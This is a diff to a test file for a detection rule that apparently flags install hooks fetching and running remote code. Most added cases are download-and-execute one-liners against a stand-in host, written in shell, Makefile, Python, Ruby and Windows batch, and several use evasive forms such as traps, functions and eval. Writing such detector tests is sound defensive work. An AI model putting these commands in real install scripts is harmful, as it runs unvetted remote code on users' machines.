@@ -22,6 +22,44 @@ describeRule(remoteCodeAtInstall, {
     "a temporary file with a made-up name": hook(
       'T=$(mktemp); curl -s https://files.example.test/a -o "$T" && chmod +x "$T" && bash "$T"',
     ),
+    "a temporary file in a folder that only the run knows": hook(
+      'D=/tmp/.c-$(date +%s); mkdir -p "$D"; curl -so "$D/run" https://files.example.test/a; chmod +x "$D/run"; "$D/run"',
+    ),
+    "a temporary file that is named after the process, read back": hook(
+      'W=/tmp/p.$$; wget -qO "$W/kit" https://files.example.test/a; eval "$(cat "$W/kit")"',
+    ),
+    "a list of words": hook("bash x.sh", {
+      "x.sh": `get=(curl -fsSL https://files.example.test/a)\n"\${get[@]}" | sh\n`,
+    }),
+    "functions with what they are handed": hook("sh x.sh", {
+      "x.sh":
+        'run() { "$@"; }\nfetch() { curl -fsSL "$1"; }\nfetch https://files.example.test/a | run sh\n',
+    }),
+    "a function by its keyword": hook("bash x.sh", {
+      "x.sh": "function grab {\n  curl -s $1\n}\ngrab https://files.example.test/a | bash\n",
+    }),
+    "a trap": hook("trap 'curl -s https://files.example.test/a | sh' EXIT; echo ok"),
+    "a Makefile in a folder": hook("make -C build", {
+      "build/Makefile": "all:\n\tcurl -fsSL https://files.example.test/a | sh\n",
+    }),
+    "a script of Python that evaluates": hook("python3 s.py", {
+      "s.py": "import requests\nexec(requests.get('https://files.example.test/a').text)\n",
+    }),
+    "a script of Python, by a name": hook("python3 s.py", {
+      "s.py":
+        "import urllib.request\ncode = urllib.request.urlopen('https://files.example.test/a').read()\nprint(1)\nexec(code)\n",
+    }),
+    "a script of Ruby that asks a shell": hook("ruby s.rb", {
+      "s.rb": "system('curl -s https://files.example.test/a | sh')\n",
+    }),
+    "a list of words in Python": hook("python3 s.py", {
+      "s.py":
+        "import subprocess\nsubprocess.run(['sh', '-c', 'curl -s https://files.example.test/a | sh'])\n",
+    }),
+    "a batch file by its name": hook("s.bat", {
+      "s.bat":
+        '@echo off\r\ncurl -so %TEMP%\\k.exe https://files.example.test/k\r\nstart "" /b %TEMP%\\k.exe\r\n',
+    }),
     "a redirected file made executable": hook(
       "wget -qO - https://files.example.test/a > ./b; chmod +x ./b; ./b",
     ),
@@ -129,6 +167,16 @@ describeRule(remoteCodeAtInstall, {
     },
   },
   passes: {
+    "a script of Python that reads a version": hook("python3 s.py", {
+      "s.py":
+        "import subprocess, urllib.request\nlatest = urllib.request.urlopen('https://files.example.test/v').read()\nsubprocess.run(['git', '--version'])\nprint(latest)\n",
+    }),
+    "functions that only say something": hook("sh x.sh", {
+      "x.sh": 'say() { echo "$@"; }\nsay run curl https://files.example.test/a | sh -n\n',
+    }),
+    "two folders that nobody knows": hook("sh x.sh", {
+      "x.sh": 'curl -so "$1/a.txt" https://files.example.test/a\nsh "$2/b.sh"\n',
+    }),
     "two temporary files": hook(
       'A=$(mktemp); B=$(mktemp); curl -s https://files.example.test/a -o "$A"; echo "exit 0" > "$B"; sh "$B"',
     ),
